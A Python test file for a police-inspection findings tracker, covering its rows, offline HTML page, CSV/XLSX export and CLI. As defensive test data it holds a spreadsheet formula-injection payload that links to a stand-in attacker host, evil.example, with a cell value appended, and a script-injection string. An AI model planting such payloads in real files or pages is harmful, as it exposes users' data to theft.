"""The tracker: the rows (standing as the build derived it, overdue as of a day, owners,
boards and supersession with how each is known), the offline HTML page, the CSV and
XLSX with sources beside facts and formulas neutralised, the CLI, and the demo."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from conftest import EXAMPLES
from typer.testing import CliRunner

from browser import AFI19, HOSTILE, HOSTILE_TITLE, governance_graph
from graphs import RoundsBuilder
from oversight.cli import app
from oversight.errors import BadParameter
from oversight.graph.model import OversightGraph
from oversight.queries.tracker import inspection_rows, tracker_rows
from oversight.viz.tracker import tracker_html, tracker_table, write_tracker_csv, write_tracker_xlsx

P21 = "kent-police/peel-2021-22"
P23 = "kent-police/peel-2023-25"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DCC = "kent-police/post/deputy-chief-constable"
FIDB = "kent-police/board/fidb"
COMB = "kent-police/board/comb"

runner = CliRunner()


def run(*args: str):  # type: ignore[no-untyped-def]
    return runner.invoke(app, list(args), env={"COLUMNS": "200", "OVERSIGHT_STORE": ""})


def small() -> OversightGraph:
    """Two rounds: AFI 1 in progress and due 2023-09, superseded (stated) by 2023/25 AFI 1;
    AFI 2 (a formula for text) with a deadline, an inferred successor; owners and boards,
    one board known only through the plan; a stated count of the 2021/22 round."""
    b = RoundsBuilder()
    a1 = b.finding(P21, "afi-01", "Improve call handling", area="responding")
    a2 = b.finding(P21, "afi-02", FORMULA, area="investigating")
    n1 = b.finding(P23, "afi-01", "Advise callers", area="responding")
    n2 = b.finding(P23, "afi-02", "Investigate well", area="investigating")
    b.status(a1, "2023-04-18", "in-progress", "amber")
    b.g.set_props(f"{a1}/status/2023-04-18", {"anticipatedCompletion": "2023-09"})
    b.g.set_props(a2, {"number": 2, "deadline": "2023-06"})
    b.supersedes(n1, a1, "stated")
    b.supersedes(n2, a2, "inferred", confidence=0.7, reason="same area; text similarity 0.6")
    b.g.add_node(DCC, "Post", {"name": "Deputy Chief Constable"}, b.ev())
    b.g.add_node(FIDB, "Board", {"name": "FIDB"}, b.ev())
    b.g.add_node(COMB, "Board", {"name": "COMB"}, b.ev())
    b.g.add_edge(a2, "OWNED_BY", DCC, {}, b.ev("owner: DCC"))
    b.g.add_edge(a2, "OVERSEEN_BY", FIDB, {}, b.ev("overseen by the FIDB"))
    b.g.add_edge(n2, "OVERSEEN_BY", COMB, {"via": "plan", "confidence": 0.9}, b.ev("the plan is monitored by COMB"))
    b.stated_count(P21, "superseded", 1, of_total=2, quote="one of the two AFIs was superseded")
    return b.derived()


def brief(row: dict) -> tuple:  # type: ignore[type-arg]
    return (
        row["key"],
        row["number"],
        row["area"],
        row["outcome"],
        row["outcomeBasis"],
        row["status"],
        row["rag"],
        row["due"],
        row["overdue"],
        [(o["name"], o["via"], o["confidence"]) for o in row["owners"]],
        [(b["name"], b["via"], b["confidence"]) for b in row["boards"]],
        [(s["key"], s["basis"], s["suggestion"]) for s in row["supersedes"]],
        [(s["key"], s["basis"], s["suggestion"]) for s in row["supersededBy"]],
    )


# -- the rows ----------------------------------------------------------------------------


def test_tracker_rows_give_each_findings_standing_owners_boards_and_links() -> None:
    rows = tracker_rows(small(), "2023-07-01")
    assert [brief(r) for r in rows] == [
        (f"{P21}/afi-01", 1, "responding", "superseded", "recorded", "in-progress", "amber", "2023-09", False,
         [], [], [], [(f"{P23}/afi-01", "stated", False)]),
        (f"{P21}/afi-02", 2, "investigating", "unknown", "unknown", None, None, "2023-06", True,
         [("Deputy Chief Constable", None, None)], [("FIDB", None, None)], [], [(f"{P23}/afi-02", "inferred", True)]),
        (f"{P23}/afi-01", 1, "responding", "unknown", "unknown", None, None, None, False,
         [], [], [(f"{P21}/afi-01", "stated", False)], []),
        (f"{P23}/afi-02", 2, "investigating", "unknown", "unknown", None, None, None, False,
         [], [("COMB", "plan", 0.9)], [(f"{P21}/afi-02", "inferred", True)], []),
    ]  # fmt: skip


def test_a_row_cites_the_document_title_and_line_of_its_status() -> None:
    [row] = [r for r in tracker_rows(small(), "2023-07-01") if r["key"] == f"{P21}/afi-01"]
    assert (row["statusSource"], row["statusDate"], row["dueSource"]) == (
        {"document": RoundsBuilder.DOC, "title": "Test paper", "line": 25, "quote": "words", "cite": "Test paper, line 25"},
        "2023-04-18",
        "anticipatedCompletion",
    )


def test_a_row_keeps_the_keys_its_finding_was_also_known_by() -> None:
    graph = small()
    graph.set_props(f"{P23}/afi-01", {"aliasKeys": ["kent-police/peel-2023-25/afi/responding-01"]})
    [row] = [r for r in tracker_rows(graph, "2023-07-01") if r["key"] == f"{P23}/afi-01"]
    assert row["aliases"] == ["kent-police/peel-2023-25/afi/responding-01"]


def test_the_overdue_mark_is_as_of_the_chosen_day() -> None:
    graph = small()
    overdue = {day: [r["key"] for r in tracker_rows(graph, day) if r["overdue"]] for day in ("2023-06-30", "2023-07-01")}
    assert overdue == {"2023-06-30": [], "2023-07-01": [f"{P21}/afi-02"]}


def test_a_superseded_finding_is_never_overdue_once_settled() -> None:
    [row] = [r for r in tracker_rows(small(), "2024-06-01") if r["key"] == f"{P21}/afi-01"]
    assert (row["outcome"], row["overdue"]) == ("superseded", False)


def test_an_inspection_shows_its_stated_counts_beside_the_findings_identified() -> None:
    summaries = inspection_rows(small())
    assert [(s["key"], s["findings"], s["outcomes"], [(t["outcome"], t["stated"], t["ofTotal"], t["identified"]) for t in s["statements"]]) for s in summaries] == [
        (P21, 2, {"superseded": 1, "unknown": 1}, [("superseded", 1, 2, 1)]),
        (P23, 2, {"unknown": 2}, []),
    ]


# -- the page ----------------------------------------------------------------------------


def _data_block(html: str) -> dict:  # type: ignore[type-arg]
    found = re.search(r'<script type="application/json" id="tr-data">(.*?)</script>', html, re.S)
    assert found is not None
    return json.loads(found.group(1))  # type: ignore[no-any-return]


def test_the_page_shows_hostile_document_text_only_as_data() -> None:
    html = tracker_html(governance_graph(), "2024-01-31")
    data = _data_block(html)
    [row] = [r for r in data["findings"] if r["key"] == AFI19]
    page = html.split('id="tr-data">')[0]  # everything but the data block and the page's script
    assert (
        html.count("<script"),
        html.count("</script"),
        "<img" in html,
        "7*7" in page,
        row["text"],
        row["textSource"]["title"],
        row["textSource"]["quote"],
    ) == (2, 2, False, False, HOSTILE, HOSTILE_TITLE, "<script>window.__pwned=1</script>")


def test_the_page_fetches_nothing_and_allows_only_its_own_script() -> None:
    import html as markup

    page = tracker_html(governance_graph(), "2024-01-31")
    found = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert found is not None
    csp = markup.unescape(found.group(1)).split("; ")
    assert (re.findall(r"(?:src|href)=\"(?:https?:)?//", page), csp[0], re.sub(r"'sha256-[A-Za-z0-9+/]+=*'", "HASH", csp[1]), csp[2:]) == (
        [],
        "default-src 'none'",
        "script-src HASH",
        ["style-src 'unsafe-inline'", "img-src data:", "base-uri 'none'", "form-action 'none'"],
    )


def test_the_page_marks_inferred_supersession_as_a_suggestion() -> None:
    data = _data_block(tracker_html(governance_graph(), "2024-01-31"))
    [row] = [r for r in data["findings"] if r["key"] == "kent-police/peel-2021-22/afi-08"]
    assert row["cells"]["supersededBy"] == ["AFI 4 · PEEL 2023/25 (inferred: a suggestion, confidence 0.72)"]


def test_the_page_groups_owners_and_boards_by_name_however_each_is_known() -> None:
    data = _data_block(tracker_html(small(), "2024-01-31"))
    assert [(r["key"], r["cells"]["board"], r["names"]["board"]) for r in data["findings"] if r["boards"]] == [
        (f"{P21}/afi-02", ["FIDB"], ["FIDB"]),
        (f"{P23}/afi-02", ["COMB (via plan, confidence 0.90)"], ["COMB"]),
    ]


# -- the spreadsheets --------------------------------------------------------------------


def _csv_rows(path: Path) -> list[list[str]]:
    text = path.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(text[1:].splitlines()))


def _xlsx_rows(path: Path, sheet: str = "Findings") -> list[list[str]]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [["" if v is None else str(v) for v in row] for row in book[sheet].iter_rows(values_only=True)]


def test_the_csv_and_xlsx_hold_the_same_table(tmp_path: Path) -> None:
    graph = small()
    write_tracker_csv(graph, tmp_path / "t.csv", "2023-07-01")
    write_tracker_xlsx(graph, tmp_path / "t.xlsx", "2023-07-01")
    assert _csv_rows(tmp_path / "t.csv") == _xlsx_rows(tmp_path / "t.xlsx")


def test_each_fact_in_the_spreadsheet_has_its_source_beside_it(tmp_path: Path) -> None:
    header, rows = tracker_table(small(), "2023-07-01")
    row = dict(zip(header, rows[1], strict=True))
    assert {k: row[k] for k in ("finding", "owner", "owner source", "board", "board source", "overdue as of 2023-07-01", "superseded by", "superseded by source")} == {
        "finding": "AFI 2",
        "owner": "Deputy Chief Constable",
        "owner source": "Test paper, line 31",
        "board": "FIDB",
        "board source": "Test paper, line 32",
        "overdue as of 2023-07-01": "overdue (due 2023-06)",
        "superseded by": "AFI 2 · investigating · PEEL 2023/25 (inferred: a suggestion, confidence 0.70)",
        "superseded by source": "inferred from: same area; text similarity 0.6",
    }


def test_a_formula_in_a_finding_text_is_neutralised_in_csv_and_xlsx(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    graph = small()
    write_tracker_csv(graph, tmp_path / "t.csv", "2023-07-01")
    write_tracker_xlsx(graph, tmp_path / "t.xlsx", "2023-07-01")
    column = _csv_rows(tmp_path / "t.csv")[0].index("text")
    cell = load_workbook(tmp_path / "t.xlsx")["Findings"].cell(row=3, column=column + 1)
    assert (_csv_rows(tmp_path / "t.csv")[2][column], cell.value, cell.data_type) == ("'" + FORMULA, "'" + FORMULA, "s")


def test_the_xlsx_has_the_inspections_with_stated_counts(tmp_path: Path) -> None:
    write_tracker_xlsx(small(), tmp_path / "t.xlsx", "2023-07-01")
    rows = _xlsx_rows(tmp_path / "t.xlsx", "Inspections")
    assert [r[:2] + r[3:11] for r in rows] == [
        ["inspection", "key", "findings", "by outcome", "stated outcome", "area", "stated", "of", "identified", "reconciles"],
        ["PEEL 2021/22", P21, "2", "1 superseded, 1 unknown", "superseded", "", "1", "2", "1", "no"],
        ["PEEL 2023/25", P23, "2", "2 unknown", "", "", "", "", "", ""],
    ]


@pytest.mark.parametrize("writer", [write_tracker_csv, write_tracker_xlsx])
def test_a_spreadsheet_never_replaces_a_file_unless_asked(tmp_path: Path, writer) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "mine"
    target.write_text("precious", encoding="utf-8")
    with pytest.raises(BadParameter, match="already exists"):
        writer(small(), target, "2023-07-01")
    assert target.read_text(encoding="utf-8") == "precious"


# -- the command -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from oversight import api

    where = tmp_path_factory.mktemp("tracker") / "store"
    api.ingest([EXAMPLES], where)
    return where


def test_the_command_writes_the_page_csv_and_xlsx(store: Path, tmp_path: Path) -> None:
    result = run(
        "tracker", "--store", str(store), "-o", str(tmp_path / "t.html"), "--as-of", "2024-01-31",
        "--csv", str(tmp_path / "t.csv"), "--xlsx", str(tmp_path / "t.xlsx"), "--json",
    )  # fmt: skip
    report = json.loads(result.stdout)
    assert (result.exit_code, sorted(p.name for p in tmp_path.iterdir()), report["asOf"], report["path"]) == (
        0,
        ["t.csv", "t.html", "t.xlsx"],
        "2024-01-31",
        str(tmp_path / "t.html"),
    )


def test_the_command_says_where_the_tracker_went_and_how_many_are_overdue(store: Path, tmp_path: Path) -> None:
    from oversight import api

    rows = api.tracker(store, "2024-01-31")["findings"]
    target = tmp_path / "t.html"
    result = run("tracker", "--store", str(store), "-o", str(target), "--as-of", "2024-01-31")
    overdue = sum(1 for r in rows if r["overdue"])
    assert (result.exit_code, result.stdout) == (
        0,
        f"wrote the tracker ({len(rows)} findings, {overdue} overdue as of 2024-01-31) to {target}\n",
    )


def test_the_command_refuses_to_overwrite_without_force(store: Path, tmp_path: Path) -> None:
    target = tmp_path / "t.html"
    target.write_text("precious", encoding="utf-8")
    result = run("tracker", "--store", str(store), "-o", str(target))
    assert (result.exit_code, result.stderr, target.read_text(encoding="utf-8")) == (
        2,
        f"error: {target}: already exists (use --force to replace it)\n",
        "precious",
    )


def test_the_command_refuses_a_day_that_is_not_one(store: Path, tmp_path: Path) -> None:
    result = run("tracker", "--store", str(store), "-o", str(tmp_path / "t.html"), "--as-of", "31/01/2024")
    assert (result.exit_code, result.stderr) == (2, "error: --as-of '31/01/2024': not a day (YYYY-MM-DD)\n")


def test_the_demo_writes_the_tracker_and_says_what_to_do_next(tmp_path: Path) -> None:
    out = tmp_path / "demo"
    result = run("demo", "-o", str(out))
    assert (result.exit_code, (out / "tracker.html").is_file(), result.stdout.splitlines()[-2:]) == (
        0,
        True,
        [
            "Your own papers: oversight ingest PAPERS_FOLDER [register.yaml] --store my-store, then oversight tracker --store my-store -o my-tracker.html",
            f"Open the tracker in any browser (it works offline): {out / 'tracker.html'}",
        ],
    )


# -- the seeds: one answer -----------------------------------------------------------------


@pytest.fixture(scope="module")
def seeds_and_register(seeds: Path, tmp_path_factory: pytest.TempPathFactory) -> OversightGraph:
    from oversight import api

    where = tmp_path_factory.mktemp("tracker-seeds") / "store"
    api.ingest([*sorted(seeds.glob("*.txt")), EXAMPLES / "register.yaml"], where)
    return api.load(where)


def test_the_trackers_outcome_of_each_peel_2021_22_afi_is_the_nodes(seeds_and_register: OversightGraph) -> None:
    graph = seeds_and_register
    rows = [r for r in tracker_rows(graph, "2024-01-31") if r["inspection"] == P21]
    afis = [k for k in graph.out(P21, "ISSUED") if graph.has_label(k, "AreaForImprovement")]
    assert [(r["key"], r["outcome"], r["outcomeBasis"]) for r in rows] == [
        (k, graph.node(k)["outcome"], graph.node(k)["outcomeBasis"]) for k in sorted(afis, key=lambda k: graph.node(k)["number"])
    ]
